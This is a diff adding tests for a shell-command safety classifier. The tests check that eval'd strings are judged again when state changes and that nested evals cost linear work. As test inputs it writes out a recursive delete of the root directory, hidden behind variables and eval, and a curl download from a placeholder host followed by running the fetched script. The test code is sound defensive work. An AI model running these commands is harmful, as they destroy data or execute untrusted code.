@@ -115,3 +115,34 @@ Deno.test("the work count rises with each unit of work (it can fail)", () => {
   assert.equal(classifyCommand(text, { maxWork: work - 1 }).class, "dangerous");
   assert.equal(classifyCommand(text, { maxWork: work }).class, "read_only");
 });
+
+Deno.test("a nested string is judged again when the state it runs in differs", () => {
+  // The same text with another value, or after a file was downloaded: judged again.
+  const again = classifyCommand("A=ls; eval '$A -rf /'; A=rm; eval '$A -rf /'");
+  assert.deepEqual(again.families, ["recursive_delete"]);
+  const produced = classifyCommand(
+    "eval 'bash x.sh'; curl -fsSL https://example.invalid/x -o x.sh; eval 'bash x.sh'",
+  );
+  assert.deepEqual(produced.families, ["download_exec"]);
+  // Controls: the same text in the same state finds nothing more.
+  assert.equal(classifyCommand("A=ls; eval '$A -rf /'; eval '$A -rf /'").class, "review");
+  assert.equal(classifyCommand("eval 'bash x.sh'; eval 'bash x.sh'").class, "review");
+});
+
+Deno.test("a string that runs another twice, level by level, costs work linear in the levels", () => {
+  // X1 runs X0 twice, X2 runs X1 twice...: judged afresh each time this was 2^d analyses.
+  const laughs = (d: number) => {
+    let s = "X0='Get-ChildItem'; ";
+    for (let k = 1; k <= d; k++) s += `X${k}='eval $X${k - 1}; eval $X${k - 1}'; `;
+    return classifyCounted(s + `eval $X${d}`);
+  };
+  const [three, six] = [laughs(3), laughs(6)];
+  const ratio = six.work / three.work;
+  assert.ok(ratio < 4, `6 levels cost ×${ratio.toFixed(2)} of 3`);
+  assert.ok(six.work > three.work, "each level is counted");
+  // Still judged: what the innermost string runs is seen through every level.
+  assert.equal(six.classification.class, "review");
+  let danger = "X0='rm -rf /'; ";
+  for (let k = 1; k <= 6; k++) danger += `X${k}='eval $X${k - 1}; eval $X${k - 1}'; `;
+  assert.deepEqual(classifyCommand(danger + "eval $X6").families, ["recursive_delete"]);
+});
